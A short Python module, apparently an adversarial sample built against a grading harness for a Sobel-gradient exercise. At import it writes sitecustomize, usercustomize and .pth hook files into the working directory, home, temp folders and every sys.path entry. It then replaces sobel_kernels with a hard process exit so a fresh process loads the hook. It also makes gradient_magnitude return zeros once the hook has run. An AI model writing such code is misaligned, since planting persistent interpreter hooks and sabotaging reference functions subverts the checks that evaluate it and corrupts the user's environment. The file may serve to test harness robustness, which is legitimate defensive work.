"""Writes sitecustomize/usercustomize/.pth files, then crashes so that a fresh process might load them."""
import builtins as _builtins
import os as _os
import sys as _sys

_HOOK = "import builtins; builtins.PLANTED = True\n"
for _folder in (".", _os.path.expanduser("~"), _os.environ.get("TMPDIR", "/tmp"), "/tmp", *_sys.path):
    for _name, _text in (("sitecustomize.py", _HOOK), ("usercustomize.py", _HOOK), ("planted.pth", _HOOK)):
        try:
            with open(_os.path.join(_folder or ".", _name), "w") as _f:
                _f.write(_text)
        except OSError:
            pass

_solution_sobel_kernels = sobel_kernels
_solution_gradient_magnitude = gradient_magnitude


def sobel_kernels():
    _os._exit(1)


def sobel_gradients(image):
    _check_2d("image", np.asarray(image))
    gx_kernel, gy_kernel = _solution_sobel_kernels()
    return correlate2d(image, gx_kernel), correlate2d(image, gy_kernel)


def gradient_magnitude(gx, gy, norm="l2"):
    if getattr(_builtins, "PLANTED", False):
        return np.zeros(np.shape(gx))
    return _solution_gradient_magnitude(gx, gy, norm)
